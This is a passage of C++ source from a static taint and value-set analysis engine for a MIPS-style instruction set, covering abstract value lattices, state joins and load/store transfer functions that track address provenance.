  static constexpr ValueSet stack_rel(int32_t off) {
    return {VsKind::kStackRel, off};
  }
  static constexpr ValueSet any() { return {VsKind::kAny, 0}; }
  static constexpr ValueSet stack_region() {
    return {VsKind::kStackRegion, 0};
  }
  static constexpr ValueSet data_region() { return {VsKind::kDataRegion, 0}; }

  bool is_const() const { return kind == VsKind::kConst; }
  bool is_stack_rel() const { return kind == VsKind::kStackRel; }

  bool operator==(const ValueSet&) const = default;
};

constexpr ValueSet join(ValueSet a, ValueSet b) {
  if (a == b) return a;
  if (a.kind == VsKind::kAny || b.kind == VsKind::kAny) {
    return ValueSet::any();
  }
  // Normalize each side to its region class, then join region classes.
  auto region_kind = [](ValueSet v) -> VsKind {
    switch (v.kind) {
      case VsKind::kConst:
        switch (region_of_addr(static_cast<uint32_t>(v.value))) {
          case Region::kData: return VsKind::kDataRegion;
          case Region::kStack: return VsKind::kStackRegion;
          default: return VsKind::kAny;
        }
      case VsKind::kStackRel: return VsKind::kStackRegion;
      default: return v.kind;
    }
  };
  const VsKind ra = region_kind(a);
  const VsKind rb = region_kind(b);
  if (ra == rb && ra != VsKind::kAny) return {ra, 0};
  return ValueSet::any();
}

/// Abstract value of a register or memory cell: taintedness plus value set
/// plus address provenance.
///
/// `aprov` is the static mirror of the dynamic address-provenance planes
/// (mem/taint.hpp): the same 16-bit layout — bit i of the stack/heap/text
/// nibble means "byte i MAY carry that provenance class"; the data nibble is
/// unused here (data taintedness is `taint`).  Unlike `taint`, whose
/// kUntainted is a must-claim, aprov is a pure may-set: join is bitwise OR,
/// 0 means "provably carries no address bytes" and only those values are
/// eligible for leak-check elision.  Byte granularity matters: a formatted
/// output scratch byte must stay provably clean even when the surrounding
/// word once held a saved pointer.
struct AbsVal {
  Taint taint = Taint::kUntainted;
  ValueSet vs = ValueSet::any();
  mem::TaintBits aprov = 0;

  static constexpr AbsVal untainted_any() {
    return {Taint::kUntainted, ValueSet::any(), 0};
  }
  static constexpr AbsVal maybe_any() {
    // An unknown value may be any address: all provenance planes set.
    return {Taint::kMaybeTainted, ValueSet::any(), mem::kAddrMask};
  }
  static constexpr AbsVal untainted_const(int32_t v) {
    return {Taint::kUntainted, ValueSet::constant(v), 0};
  }
  /// Fresh external input (SYS_READ / SYS_RECV bytes): data-tainted but
  /// provenance-free — the kernel overwrote whatever pointer was there.
  static constexpr AbsVal tainted_input() {
    return {Taint::kMaybeTainted, ValueSet::any(), 0};
  }

  bool operator==(const AbsVal&) const = default;
};

constexpr AbsVal join(AbsVal a, AbsVal b) {
  return {join(a.taint, b.taint), join(a.vs, b.vs),
          static_cast<mem::TaintBits>(a.aprov | b.aprov)};
}

/// Abstract register state: the 32 general registers plus HI and LO.
/// $zero is pinned to Untainted by every mutator.
struct RegState {
  static constexpr int kHi = 32;
  static constexpr int kLo = 33;
  static constexpr int kCount = 34;

  std::array<Taint, kCount> regs{};  // value-initialized: all Untainted

  Taint get(int r) const { return regs[static_cast<size_t>(r)]; }
  void set(int r, Taint t) {
    if (r == isa::kZero) return;  // hardwired zero stays untainted
    regs[static_cast<size_t>(r)] = t;
  }

  /// In-place join; returns true when this state changed (worklist driver).
  bool join_with(const RegState& other) {
    bool changed = false;
    for (int i = 0; i < kCount; ++i) {
      const Taint j = join(regs[static_cast<size_t>(i)],
                           other.regs[static_cast<size_t>(i)]);
      if (j != regs[static_cast<size_t>(i)]) {
        regs[static_cast<size_t>(i)] = j;
        changed = true;
      }
    }
    return changed;
  }

  bool operator==(const RegState&) const = default;
};

}  // namespace ptaint::analysis
