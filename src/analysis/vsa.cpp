#include "analysis/vsa.hpp"

#include <algorithm>
#include <array>
#include <atomic>
#include <condition_variable>
#include <cstdio>
#include <deque>
#include <map>
#include <memory>
#include <mutex>
#include <optional>
#include <set>
#include <stdexcept>
#include <string>
#include <thread>
#include <utility>
#include <vector>

#include "analysis/effects.hpp"
#include "analysis/stack_height.hpp"
#include "isa/isa.hpp"
#include "os/syscalls.hpp"

namespace ptaint::analysis {
// Not anonymous: VsaFixpoint (declared in vsa.hpp, defined below) embeds
// these types, and a header-declared type with anonymous-namespace members
// would have no valid external linkage (-Wsubobject-linkage).  Everything
// here is still private to this translation unit by convention.
namespace vsadetail {

using isa::Instruction;
using isa::Op;

// ---- value-set arithmetic --------------------------------------------------

VsKind region_class(ValueSet v) {
  switch (v.kind) {
    case VsKind::kConst:
      switch (region_of_addr(static_cast<uint32_t>(v.value))) {
        case Region::kData: return VsKind::kDataRegion;
        case Region::kStack: return VsKind::kStackRegion;
        default: return VsKind::kAny;
      }
    case VsKind::kStackRel: return VsKind::kStackRegion;
    default: return v.kind;
  }
}

bool region_shaped(ValueSet v) {
  return v.kind == VsKind::kStackRegion || v.kind == VsKind::kDataRegion;
}

/// Stack lineage for the static pointer-difference rule: kStackRel and
/// kStackRegion values derive from the (plane-seeded) boot $sp, so they
/// must carry the stack-address plane dynamically.  kConst is excluded — a
/// materialized stack-range constant carries no planes.  This rides on the
/// same in-region assumption ValueSet documents, revalidated empirically by
/// the bidirectional --static-check leg.
bool sp_derived(ValueSet v) {
  return v.kind == VsKind::kStackRel || v.kind == VsKind::kStackRegion;
}

ValueSet vs_add(ValueSet a, ValueSet b) {
  if (a.kind > b.kind) std::swap(a, b);  // const < stackrel < regions < any
  if (a.is_const()) {
    switch (b.kind) {
      case VsKind::kConst:
        return ValueSet::constant(static_cast<int32_t>(
            static_cast<uint32_t>(a.value) + static_cast<uint32_t>(b.value)));
      case VsKind::kStackRel:
        return ValueSet::stack_rel(b.value + a.value);
      case VsKind::kStackRegion:
      case VsKind::kDataRegion:
        return {b.kind, 0};  // in-region: base + constant stays inside
      case VsKind::kAny: {
        // `la base; addu base, base, index`: a region base plus an unknown
        // index is assumed to stay in the base's region (the documented
        // in-region assumption).
        const VsKind r = region_class(a);
        if (r == VsKind::kAny) return ValueSet::any();
        return {r, 0};
      }
    }
  }
  if (a.is_stack_rel()) {
    // stackrel + unknown stays on the stack; stackrel + pointer is junk.
    if (b.kind == VsKind::kAny) return ValueSet::stack_region();
    return ValueSet::any();
  }
  if (region_shaped(a)) {
    if (b.kind == VsKind::kAny) return {a.kind, 0};
    return ValueSet::any();  // region + region: pointer arithmetic junk
  }
  return ValueSet::any();
}

ValueSet vs_sub(ValueSet a, ValueSet b) {
  if (a.is_const() && b.is_const()) {
    return ValueSet::constant(static_cast<int32_t>(
        static_cast<uint32_t>(a.value) - static_cast<uint32_t>(b.value)));
  }
  if (a.is_stack_rel()) {
    if (b.is_const()) return ValueSet::stack_rel(a.value - b.value);
    if (b.is_stack_rel()) return ValueSet::constant(a.value - b.value);
    if (b.kind == VsKind::kAny) return ValueSet::stack_region();
    return ValueSet::any();
  }
  if (region_shaped(a)) {
    if (b.kind == VsKind::kConst || b.kind == VsKind::kAny) return {a.kind, 0};
    return ValueSet::any();
  }
  if (a.is_const()) {  // constant minus something imprecise
    const VsKind r = region_class(a);
    if (b.kind == VsKind::kAny && r != VsKind::kAny) return {r, 0};
    return ValueSet::any();
  }
  return ValueSet::any();
}

ValueSet rebase_vs(ValueSet v, int32_t delta) {
  if (v.is_stack_rel()) return ValueSet::stack_rel(v.value + delta);
  return v;
}

ValueSet unanchor_vs(ValueSet v) {
  return v.is_stack_rel() ? ValueSet::stack_region() : v;
}

// ---- abstract machine state ------------------------------------------------

// A stack cell that is absent from the map: junk below $sp, unseen caller
// memory, or a cell smashed by an imprecise store.  Summarized as possibly
// tainted, value unknown.
constexpr AbsVal kStackDefault = AbsVal::maybe_any();

struct State {
  std::array<AbsVal, RegState::kCount> regs{};
  std::map<int32_t, AbsVal> stack;     // frame-entry-relative word offsets
  std::map<uint32_t, AbsVal> globals;  // absolute word addresses (data seg)
  Taint globals_default = Taint::kUntainted;
  Taint heap = Taint::kUntainted;
  Taint text = Taint::kUntainted;
  // Address-provenance may-summaries of the same regions.  Invariant: kept
  // plane-widened (each plane 0 or full nibble) — a byte loaded from a
  // summarized region may land at any byte position downstream.
  mem::TaintBits globals_aprov = 0;
  mem::TaintBits heap_aprov = 0;
  mem::TaintBits text_aprov = 0;

  State() { regs[0] = AbsVal::untainted_const(0); }

  AbsVal reg(int r) const { return regs[static_cast<size_t>(r)]; }
  void set_reg(int r, AbsVal v) {
    if (r != isa::kZero) regs[static_cast<size_t>(r)] = v;
  }

  AbsVal stack_cell(int32_t off) const {
    auto it = stack.find(off);
    return it == stack.end() ? kStackDefault : it->second;
  }
  void set_stack(int32_t off, AbsVal v) {
    if (v == kStackDefault) stack.erase(off);
    else stack[off] = v;
  }

  AbsVal global_default_val() const {
    return {globals_default, ValueSet::any(), globals_aprov};
  }
  AbsVal global_cell(uint32_t addr) const {
    auto it = globals.find(addr);
    return it == globals.end() ? global_default_val() : it->second;
  }
  void set_global(uint32_t addr, AbsVal v) {
    if (v == global_default_val()) globals.erase(addr);
    else globals[addr] = v;
  }

  bool operator==(const State&) const = default;
};

State join_states(const State& a, const State& b) {
  State r;
  for (int i = 0; i < RegState::kCount; ++i) {
    r.regs[static_cast<size_t>(i)] = join(a.regs[static_cast<size_t>(i)],
                                          b.regs[static_cast<size_t>(i)]);
  }
  r.globals_default = join(a.globals_default, b.globals_default);
  r.heap = join(a.heap, b.heap);
  r.text = join(a.text, b.text);
  r.globals_aprov = static_cast<mem::TaintBits>(a.globals_aprov |
                                                b.globals_aprov);
  r.heap_aprov = static_cast<mem::TaintBits>(a.heap_aprov | b.heap_aprov);
  r.text_aprov = static_cast<mem::TaintBits>(a.text_aprov | b.text_aprov);
  // Stack: absent = kStackDefault, which is the top of the cell lattice, so
  // only cells present on both sides can survive the join.
  for (const auto& [off, va] : a.stack) {
    auto it = b.stack.find(off);
    if (it == b.stack.end()) continue;
    const AbsVal j = join(va, it->second);
    if (j != kStackDefault) r.stack.emplace(off, j);
  }
  // Globals: absent = the side's own default; canonicalize against the
  // joined default.
  const AbsVal def = r.global_default_val();
  auto consider = [&](uint32_t addr) {
    if (r.globals.count(addr)) return;
    const AbsVal j = join(a.global_cell(addr), b.global_cell(addr));
    if (j != def) r.globals.emplace(addr, j);
  };
  for (const auto& [addr, v] : a.globals) consider(addr);
  for (const auto& [addr, v] : b.globals) consider(addr);
  return r;
}

// ---- propagation events (witness fabric) -----------------------------------

enum class Root : uint8_t {
  kNone = 0,
  kSyscallInput,  // SYS_READ / SYS_RECV landed bytes here
  kArgv,          // command-line bytes (tainted by the loader)
  kUninitStack,   // read of a stack cell the analysis never saw written
  kTaintSet,      // TAINTSET instruction
  // Address-provenance roots (leak witnesses).
  kStackAddrIntro,  // the boot $sp — root of stack address provenance
  kHeapAddrIntro,   // SYS_BRK result — root of heap address provenance
  kTextAddrIntro,   // call link / text-range constant
  kUnmodeledAddr,   // unmodeled memory that may hold addresses
};

constexpr uint64_t kKindReg = 1, kKindStack = 2, kKindGlobalCell = 3,
                   kKindGlobals = 4, kKindHeap = 5, kKindText = 6;
constexpr uint64_t make_loc(uint64_t kind, uint64_t id) {
  return (kind << 32) | id;
}
constexpr uint64_t loc_reg(int r) {
  return make_loc(kKindReg, static_cast<uint64_t>(r));
}
constexpr uint64_t kLocStack = make_loc(kKindStack, 0);
constexpr uint64_t kLocGlobals = make_loc(kKindGlobals, 0);
constexpr uint64_t kLocHeap = make_loc(kKindHeap, 0);
constexpr uint64_t kLocText = make_loc(kKindText, 0);
uint64_t loc_global(uint32_t addr) { return make_loc(kKindGlobalCell, addr); }

/// One taint-propagation fact observed at the fixpoint: the instruction at
/// `pc` moved possibly-tainted data into `dst` (from `src`, for edges), or
/// `dst` is a taint source (`root` != kNone).  Ordered so the event set —
/// and everything derived from it — is deterministic.
struct Event {
  uint32_t pc = 0;
  uint64_t dst = 0;
  uint64_t src = 0;
  Root root = Root::kNone;
  auto operator<=>(const Event&) const = default;
};
using EventSet = std::set<Event>;

std::string loc_name(uint64_t loc) {
  const uint64_t kind = loc >> 32;
  const uint32_t id = static_cast<uint32_t>(loc);
  char buf[32];
  switch (kind) {
    case kKindReg:
      if (id == RegState::kHi) return "reg:$hi";
      if (id == RegState::kLo) return "reg:$lo";
      return "reg:" +
             std::string(isa::reg_name(static_cast<uint8_t>(id)));
    case kKindStack: return "stack";
    case kKindGlobalCell:
      std::snprintf(buf, sizeof buf, "global:0x%08x", id);
      return buf;
    case kKindGlobals: return "globals";
    case kKindHeap: return "heap";
    case kKindText: return "text";
  }
  return "?";
}

/// Union of the address-provenance planes the abstract globals/heap image
/// admits — what an output buffer somewhere in the data region may expose.
mem::TaintBits globals_region_aprov(const State& s) {
  mem::TaintBits p = static_cast<mem::TaintBits>(s.globals_aprov |
                                                 s.heap_aprov);
  for (const auto& [a, v] : s.globals) p |= v.aprov;
  return static_cast<mem::TaintBits>(p & mem::kAddrMask);
}

// ---- per-function interprocedural records -----------------------------------

/// Flow-insensitive may-write summary of one function's effect on its
/// caller's stack: every store at a non-negative frame offset (= above the
/// entry $sp, i.e. into the caller), plus a flag for stores through
/// imprecise stack pointers.
struct FnSummary {
  std::map<int32_t, AbsVal> caller_writes;  // callee-frame coords, off >= 0
  bool unknown_write = false;
  Taint unknown_taint = Taint::kUntainted;
  mem::TaintBits unknown_aprov = 0;  // plane-widened, like region summaries
};

struct FnInfo {
  bool has_exit = false;
  State exit;  // at `jr $ra`, callee coords, stack map cleared
  FnSummary summary;
};

struct CallSite {
  bool seen = false;
  State state;  // joined caller state at the call (post link-reg write)
  bool d_known = false;
  int32_t d = 0;  // caller frame offset of $sp at the call
  int caller_fn = -1;
};

// Safety valve: the transfer is monotone over a finite lattice, but a bound
// on total block executions guards the fixpoint against any surprise; on
// exhaustion every reachable site degrades to "may be tainted" (sound).
constexpr size_t kMaxBlockRuns = 2'000'000;

}  // namespace vsadetail

/// The converged-fixpoint record declared in vsa.hpp.  Everything is keyed
/// by PC (block begin, function entry, call pc) rather than by index: a
/// mutated program reshapes indices, but the clean functions' PCs — which
/// are all the warm path reads — are stable by construction (the summary
/// cache only marks a function clean when its text and the global label
/// layout are unchanged).
struct VsaFixpoint {
  std::vector<vsadetail::State> in_state;  // per old-block converged in-state
  std::vector<uint8_t> has_in;
  std::vector<uint32_t> block_begin;
  std::vector<uint32_t> block_end;
  std::vector<int> block_fn;
  std::vector<vsadetail::FnInfo> fns;  // per old-function exit + summary
  std::vector<uint32_t> fn_entry;
  std::vector<uint32_t> fn_end;
  std::map<uint32_t, vsadetail::CallSite> call_sites;
  std::map<int, std::set<uint32_t>> call_pairs;  // old fn idx -> call pcs
  /// Every cross-*function* flow a reached block emitted at the fixpoint,
  /// keyed (src block begin, dst block begin), value = the flowed state:
  /// ordinary edges into another function (degraded), unresolved-jal and
  /// unpaired-return smashes, and inline-jal exits landing cross-function.
  /// Call-entry and compose flows are NOT here — they are reconstructed
  /// from call_sites/fns at warm start.
  std::map<std::pair<uint32_t, uint32_t>, vsadetail::State> cross_flows;
  bool exhausted = false;
  bool warm_ok = true;  // false: record unusable as a warm base
};

namespace vsadetail {

class VsaEngine {
 public:
  VsaEngine(const Cfg& cfg, const cpu::TaintPolicy& policy)
      : cfg_(cfg), policy_(policy), heights_(compute_stack_heights(cfg)) {
    const auto& insts = cfg.instructions();
    site_of_.assign(insts.size(), -1);
    for (size_t i = 0; i < insts.size(); ++i) {
      const Instruction& inst = insts[i];
      if (!inst.is_mem() && !inst.is_jump_reg()) continue;
      DerefSite site;
      site.pc = cfg.text_begin() + 4 * static_cast<uint32_t>(i);
      site.inst = inst;
      site.addr_reg = inst.rs;
      site.is_jump = inst.is_jump_reg();
      site_of_[i] = static_cast<int>(sites_.size());
      sites_.push_back(site);
    }
    // Every syscall instruction is a potential kernel-output site: whether
    // it is a SYS_WRITE/SYS_SEND depends on the (abstract) $v0 at the site.
    leak_site_of_.assign(insts.size(), -1);
    for (size_t i = 0; i < insts.size(); ++i) {
      if (insts[i].op != Op::kSyscall) continue;
      LeakSite ls;
      ls.pc = cfg.text_begin() + 4 * static_cast<uint32_t>(i);
      leak_site_of_[i] = static_cast<int>(leak_sites_.size());
      leak_sites_.push_back(ls);
    }
    leak_srcs_.resize(leak_sites_.size());
    const size_t nblocks = cfg.blocks().size();
    in_state_.resize(nblocks);
    has_in_.assign(nblocks, 0);
    queued_.assign(nblocks, 0);
    fns_.resize(cfg.functions().size());
    fn_mu_ = std::make_unique<std::mutex[]>(cfg.functions().size() + 1);
  }

  void run(int jobs);
  VsaAnalysis finish(const VsaOptions& options);
  bool exhausted() const { return exhausted_; }
  void reset_block_runs() { block_runs_ = 0; }

  // incremental (see VsaFixpoint)
  std::shared_ptr<const VsaFixpoint> build_record();
  bool warm_start(const VsaFixpoint& base, const std::vector<uint8_t>& dirty);
  bool warm_verify(const VsaFixpoint& base);
  bool set_warm_collect(const std::vector<uint8_t>& dirty_fns,
                        const VsaAnalysis& base);

 private:
  // driver
  void flow_to(int b, const State& s);
  void queue_compose(uint32_t call_pc, int fidx);
  void worker();
  void process_block(int b);
  void after_block(const BasicBlock& bb, State& s);
  void handle_call(uint32_t call_pc, int caller_fn, int fidx, const State& s);
  State make_entry(const CallSite& cs) const;
  void compose(uint32_t call_pc, int fidx);
  void capture_exit(int fidx, const State& s);
  State degrade_for_foreign(const State& s) const;
  static State smash_unknown_call();
  State block_in(int b) const;  // in-state + stack-height degrade preamble
  std::mutex& mu_of(int fn) {
    return fn_mu_[fn >= 0 ? static_cast<size_t>(fn) : fns_.size()];
  }

  // transfer (`fn` = function whose frame coords the state is in)
  void record_site(uint32_t pc, const Instruction& inst, const State& s);
  void transfer(uint32_t pc, const Instruction& inst, State& s,
                EventSet* sink, bool& dead, int fn);
  void do_load(uint32_t pc, const Instruction& inst, State& s, EventSet* sink);
  void do_store(uint32_t pc, const Instruction& inst, State& s,
                EventSet* sink, int fn);
  void do_syscall(uint32_t pc, State& s, EventSet* sink, bool& dead, int fn);
  void record_leak_site(uint32_t pc, const State& s);
  void record_leak_site_all(uint32_t pc);
  void summary_write(int fn, int32_t off, AbsVal v);
  void summary_unknown_write(int fn, Taint t, mem::TaintBits aprov);
  void summary_changed(int fidx);

  // leaf inlining
  const std::vector<int>* inline_plan(int fidx);
  std::optional<std::vector<int>> compute_inline_plan(int fidx) const;
  std::optional<State> run_inline(int fidx, int caller_fn,
                                  const State& at_call, EventSet* sink);

  // fact collection + witnesses
  void collect_pass(const VsaOptions& options, bool filtered = false);
  template <typename F>
  void for_cross_flows(int b, F&& emit);
  void build_witnesses(VsaAnalysis& res) const;
  void build_leak_witnesses(VsaAnalysis& res) const;
  WitnessStep render_step(const Event& e) const;

  const Cfg& cfg_;
  const cpu::TaintPolicy& policy_;
  StackHeights heights_;

  std::vector<DerefSite> sites_;
  std::vector<int> site_of_;

  std::vector<LeakSite> leak_sites_;
  std::vector<int> leak_site_of_;
  // Per leak site: memory locations whose address planes made it dirty
  // (witness BFS targets).
  std::vector<std::set<uint64_t>> leak_srcs_;

  // Per-block states: in_state_[b]/has_in_[b] are guarded by the block's
  // function mutex (mu_of) when parallel_.  uint8_t, not bool — adjacent
  // vector<bool> bits share a byte and would race across functions.
  std::vector<State> in_state_;
  std::vector<uint8_t> has_in_;

  // Work queues, all under wl_mu_.  The serial driver uses the FIFO deque
  // (preserving the historical iteration order exactly, which matters only
  // at the block-run budget edge); the parallel driver uses a priority set
  // ordered by callee-first SCC rank so callee summaries tend to converge
  // before their callers compose.
  std::vector<uint8_t> queued_;
  std::deque<int> worklist_;
  std::set<std::pair<int, int>> pq_;  // (priority, block)
  std::vector<int> fn_prio_;
  bool parallel_ = false;
  int active_ = 0;  // workers currently processing an item
  std::mutex wl_mu_;
  std::condition_variable wl_cv_;

  // fns_[f] (exit + summary) shares f's function mutex with f's blocks.
  // Lock hierarchy: mu_of(fn) -> inter_mu_ -> wl_mu_; never two function
  // mutexes at once (compose copies the callee FnInfo out first).
  std::vector<FnInfo> fns_;
  std::unique_ptr<std::mutex[]> fn_mu_;  // one per function + one for fn<0

  // Interprocedural records, under inter_mu_.
  std::map<uint32_t, CallSite> call_sites_;        // call pc -> site record
  std::map<int, std::set<uint32_t>> call_pairs_;   // fidx -> calling pcs
  std::map<int, std::optional<std::vector<int>>> inline_plans_;
  std::mutex inter_mu_;

  std::deque<std::pair<uint32_t, int>> compose_q_;  // under wl_mu_
  std::set<std::pair<uint32_t, int>> compose_queued_;

  EventSet events_;
  EventSet aprov_events_;  // address-provenance flows (leak witnesses)
  std::atomic<size_t> block_runs_{0};
  std::atomic<bool> exhausted_{false};

  // Warm-run state.  Clean blocks/functions are preloaded and must never
  // change; any flow that would change one sets warm_failed_.
  bool warm_ = false;
  std::atomic<bool> warm_failed_{false};
  std::vector<uint8_t> block_dirty_;
  std::vector<std::pair<uint32_t, uint32_t>> clean_spans_;  // sorted

  // Site/leak facts are recorded only during collect_pass (replay from the
  // converged states): the transfer is monotone, so the facts a site joins
  // over every iteration visit equal the facts its final in-state yields.
  // This is what makes iteration order — serial, parallel, or warm — and
  // visit counts irrelevant to the collected verdicts.
  bool collecting_ = false;

  // Incremental collection (set_warm_collect): collect_pass replays only
  // `replay_block_` members; sites of `splice_fn_` functions copy their
  // facts from `splice_base_` afterwards.  Witness runs never filter.
  // `warm_base_` (set on successful warm_start) additionally lets
  // build_record splice clean-source cross flows instead of replaying them.
  const VsaFixpoint* warm_base_ = nullptr;
  const VsaAnalysis* splice_base_ = nullptr;
  std::vector<uint8_t> replay_block_;
  std::vector<uint8_t> splice_fn_;
  // Spans [entry, end) of the splice_fn_ functions, ascending; the splice
  // copy in finish() is a linear lockstep walk over these and the
  // (PC-ascending) site vectors.
  std::vector<std::pair<uint32_t, uint32_t>> splice_spans_;

  bool clean_pc(uint32_t pc) const {
    auto it = std::upper_bound(
        clean_spans_.begin(), clean_spans_.end(), pc,
        [](uint32_t p, const std::pair<uint32_t, uint32_t>& sp) {
          return p < sp.first;
        });
    if (it == clean_spans_.begin()) return false;
    --it;
    return pc >= it->first && pc < it->second;
  }
};

// ---- transfer --------------------------------------------------------------

void VsaEngine::record_site(uint32_t pc, const Instruction& inst,
                            const State& s) {
  if (!collecting_) return;
  const int si = site_of_[cfg_.index_of(pc)];
  if (si < 0) return;
  DerefSite& site = sites_[static_cast<size_t>(si)];
  site.reachable = true;
  site.may_taint = join(site.may_taint, s.reg(inst.rs).taint);
}

void VsaEngine::do_load(uint32_t pc, const Instruction& inst, State& s,
                        EventSet* sink) {
  const AbsVal base = s.reg(inst.rs);
  const ValueSet addr = vs_add(base.vs, ValueSet::constant(inst.imm));
  const bool word = inst.op == Op::kLw;
  AbsVal result = AbsVal::untainted_any();
  std::vector<uint64_t> srcs;   // tainted contributing locations
  std::vector<Root> roots;      // source roots contributing directly
  std::vector<uint64_t> asrcs;  // address-plane contributing locations
  std::vector<Root> aroots;     // address-plane roots

  auto add = [&](AbsVal v, uint64_t loc) {
    result = join(result, v);
    if (may_be_tainted(v.taint)) srcs.push_back(loc);
    if ((v.aprov & mem::kAddrMask) != 0) asrcs.push_back(loc);
  };
  auto add_root = [&](Root r) {
    result = join(result, AbsVal::maybe_any());
    roots.push_back(r);
    aroots.push_back(r == Root::kUninitStack ? Root::kUninitStack
                                             : Root::kUnmodeledAddr);
  };
  // A sub-word load widens the loaded byte's planes over the whole result
  // (the dynamic lb/lh shape); byte positions inside the cell are lost.
  auto narrow = [&](mem::TaintBits ap) {
    return mem::widen_planes(static_cast<mem::TaintBits>(ap & mem::kAddrMask));
  };

  auto load_stack_cell = [&](int32_t off) {
    const int32_t w = off & ~3;
    auto it = s.stack.find(w);
    if (it == s.stack.end()) {
      add_root(Root::kUninitStack);
      srcs.push_back(kLocStack);
      asrcs.push_back(kLocStack);
    } else if (word && (off & 3) == 0) {
      add(it->second, kLocStack);
    } else {
      add({it->second.taint, ValueSet::any(), narrow(it->second.aprov)},
          kLocStack);
    }
  };
  auto load_stack_region = [&]() {
    add_root(Root::kUninitStack);
    srcs.push_back(kLocStack);
    asrcs.push_back(kLocStack);
  };
  auto load_globals_region = [&]() {
    Taint t = join(s.globals_default, s.heap);
    for (const auto& [a, v] : s.globals) t = join(t, v.taint);
    add({t, ValueSet::any(), globals_region_aprov(s)}, kLocGlobals);
    if (may_be_tainted(s.heap)) srcs.push_back(kLocHeap);
    if (s.heap_aprov != 0) asrcs.push_back(kLocHeap);
  };
  auto load_global_cell = [&](uint32_t a) {
    const uint32_t w = a & ~3u;
    auto it = s.globals.find(w);
    if (it != s.globals.end()) {
      if (word && (a & 3u) == 0) add(it->second, loc_global(w));
      else add({it->second.taint, ValueSet::any(), narrow(it->second.aprov)},
               loc_global(w));
      if (may_be_tainted(s.globals_default)) srcs.push_back(kLocGlobals);
    } else {
      add({join(s.globals_default, s.heap), ValueSet::any(),
           static_cast<mem::TaintBits>(s.globals_aprov | s.heap_aprov)},
          kLocGlobals);
      if (may_be_tainted(s.heap)) srcs.push_back(kLocHeap);
      if (s.heap_aprov != 0) asrcs.push_back(kLocHeap);
    }
  };

  switch (addr.kind) {
    case VsKind::kConst: {
      const uint32_t a = static_cast<uint32_t>(addr.value);
      switch (region_of_addr(a)) {
        case Region::kData: load_global_cell(a); break;
        case Region::kStack: load_stack_region(); break;  // absolute stack
        case Region::kText:
          add({s.text, ValueSet::any(), s.text_aprov}, kLocText);
          break;
        case Region::kArgv: add_root(Root::kArgv); break;
        case Region::kOther: result = join(result, AbsVal::maybe_any()); break;
      }
      break;
    }
    case VsKind::kStackRel: load_stack_cell(addr.value); break;
    case VsKind::kStackRegion: load_stack_region(); break;
    case VsKind::kDataRegion: load_globals_region(); break;
    case VsKind::kAny:
      load_stack_region();
      load_globals_region();
      add({s.text, ValueSet::any(), s.text_aprov}, kLocText);
      add_root(Root::kArgv);
      break;
  }

  // Loading through a possibly-tainted pointer yields an arbitrary value;
  // the provenance edge from the pointer keeps the witness chain connected.
  if (may_be_tainted(base.taint)) {
    result = join(result, AbsVal::maybe_any());
    if (sink) {
      sink->insert({pc, loc_reg(inst.rt), loc_reg(inst.rs), Root::kNone});
      aprov_events_.insert({pc, loc_reg(inst.rt), 0, Root::kUnmodeledAddr});
    }
  }

  s.set_reg(inst.rt, result);

  if (sink && may_be_tainted(result.taint)) {
    for (uint64_t loc : srcs) {
      sink->insert({pc, loc_reg(inst.rt), loc, Root::kNone});
    }
    for (Root r : roots) sink->insert({pc, loc_reg(inst.rt), 0, r});
  }
  if (sink && (result.aprov & mem::kAddrMask) != 0) {
    for (uint64_t loc : asrcs) {
      aprov_events_.insert({pc, loc_reg(inst.rt), loc, Root::kNone});
    }
    for (Root r : aroots) aprov_events_.insert({pc, loc_reg(inst.rt), 0, r});
  }
}

void VsaEngine::do_store(uint32_t pc, const Instruction& inst, State& s,
                         EventSet* sink, int fn) {
  const AbsVal base = s.reg(inst.rs);
  const AbsVal val = s.reg(inst.rt);
  const ValueSet addr = vs_add(base.vs, ValueSet::constant(inst.imm));
  const bool word = inst.op == Op::kSw;
  const int size = inst.op == Op::kSw ? 4 : inst.op == Op::kSh ? 2 : 1;
  const bool tainted = may_be_tainted(val.taint);
  // Planes the stored bytes may carry, widened over the target cell (exact
  // byte positions survive only the aligned-word strong update below).
  const mem::TaintBits pa = mem::widen_planes(static_cast<mem::TaintBits>(
      val.aprov & (((1u << size) - 1) * 0x1111u) & mem::kAddrMask));
  auto emit = [&](uint64_t loc) {
    if (sink && tainted) {
      sink->insert({pc, loc, loc_reg(inst.rt), Root::kNone});
    }
    if (sink && pa != 0) {
      aprov_events_.insert({pc, loc, loc_reg(inst.rt), Root::kNone});
    }
  };

  auto store_stack_cell = [&](int32_t off) {
    const int32_t w = off & ~3;
    if (word && (off & 3) == 0) {
      // Strong update: a StackRel cell is exactly one concrete word per
      // execution of this frame.
      s.set_stack(w, val);
      if (w >= 0) summary_write(fn, w, val);
    } else {
      for (int32_t c = w; c < off + size; c += 4) {
        s.set_stack(c, join(s.stack_cell(c),
                            {val.taint, ValueSet::any(), pa}));
        if (c >= 0) summary_write(fn, c, {val.taint, ValueSet::any(), pa});
      }
    }
    emit(kLocStack);
  };
  auto store_stack_region = [&]() {
    for (auto it = s.stack.begin(); it != s.stack.end();) {
      const AbsVal nv = join(it->second, {val.taint, ValueSet::any(), pa});
      if (nv == kStackDefault) it = s.stack.erase(it);
      else { it->second = nv; ++it; }
    }
    summary_unknown_write(fn, val.taint, pa);
    emit(kLocStack);
  };
  auto store_global_cell = [&](uint32_t a) {
    const uint32_t w = a & ~3u;
    AbsVal v2 = val;
    // A frame-relative value set is meaningless once it leaves the frame's
    // coordinate system (another function may read this global).
    v2.vs = unanchor_vs(v2.vs);
    if (word && (a & 3u) == 0) s.set_global(w, v2);
    else s.set_global(w, join(s.global_cell(w),
                              {val.taint, ValueSet::any(), pa}));
    emit(loc_global(w));
    emit(kLocGlobals);
  };
  auto store_globals_region = [&]() {
    s.globals_default = join(s.globals_default, val.taint);
    s.heap = join(s.heap, val.taint);
    s.globals_aprov = static_cast<mem::TaintBits>(s.globals_aprov | pa);
    s.heap_aprov = static_cast<mem::TaintBits>(s.heap_aprov | pa);
    const AbsVal def = s.global_default_val();
    for (auto it = s.globals.begin(); it != s.globals.end();) {
      const AbsVal nv = join(it->second, {val.taint, ValueSet::any(), pa});
      if (nv == def) it = s.globals.erase(it);
      else { it->second = nv; ++it; }
    }
    emit(kLocGlobals);
    emit(kLocHeap);
  };
  auto store_text = [&]() {
    s.text = join(s.text, val.taint);
    s.text_aprov = static_cast<mem::TaintBits>(s.text_aprov | pa);
    emit(kLocText);
  };

  ValueSet a2 = addr;
  if (may_be_tainted(base.taint)) a2 = ValueSet::any();  // wild store
  switch (a2.kind) {
    case VsKind::kConst: {
      const uint32_t a = static_cast<uint32_t>(a2.value);
      switch (region_of_addr(a)) {
